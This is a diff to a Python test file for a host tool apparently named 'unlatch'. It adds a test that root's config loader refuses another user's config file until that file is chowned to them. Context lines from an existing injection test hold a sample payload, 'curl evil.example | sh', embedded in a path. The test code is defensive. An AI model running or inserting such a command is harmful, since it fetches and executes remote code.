@@ -5,18 +5,21 @@ import pwd
 import subprocess
 import sys
 from collections.abc import Iterator
+from pathlib import Path
 
 import pytest
 from doctor_host import situation_of
 from house import UNLATCH, House
+from real import absent
 from waiting import until
 
 from unlatch import runtime
 from unlatch.doctor.check import command
 from unlatch.doctor.host import process
 from unlatch.doctor.host.process import Process, argument_of, environment_of, process_of, read_main_process
-from unlatch.doctor.host.served import served
+from unlatch.doctor.host.served import _load_for_root, served
 
+OTHER = 4242  # a uid that nobody has
 HOST = runtime.host_runtime()
 OWN = runtime.own(4242, {"UNLATCH_RUNTIME_DIR": "/nonexistent"}, "/nonexistent")
 ROOT = situation_of({"HOME": "/nonexistent"})._replace(uid=4242, caller=0)
@@ -84,3 +87,20 @@ def test_a_path_with_a_line_break_makes_no_second_command() -> None:
     assert told.splitlines() == [told]
     said = subprocess.run(["bash", "-c", told.replace("ls -ld", "printf '%s|'")], capture_output=True, check=True)
     assert said.stdout == b"/home/mallory/x\ncurl evil.example | sh|it's \x1b[2K|"
+
+
+def test_another_users_broker_gives_root_no_file_to_read(tmp_path: Path) -> None:
+    """Its notifiers would be tried by a process of that user's, which would learn what root's file says."""
+    if os.getuid() != 0:
+        absent("only root may give files away")
+    file, link = tmp_path / "unlatch.toml", tmp_path / "link"
+    file.write_text('[notify.phone]\napprise = "ntfys://ntfy.example/secret"\n')
+    link.symlink_to(file)
+    for path, environ in ((str(link), {}), (None, {"UNLATCH_CONFIG": str(file)}), (str(tmp_path), {})):
+        loaded = _load_for_root(path, environ, OTHER)
+        assert not loaded.settings.notifiers
+        assert "is not that user's own" in str(loaded.mistakes[0])
+    os.chown(file, OTHER, OTHER)
+    loaded = _load_for_root(str(link), {}, OTHER)
+    assert [each.name for each in loaded.settings.notifiers] == ["phone"]
+    assert (loaded.path, loaded.mistakes) == (str(link), ())
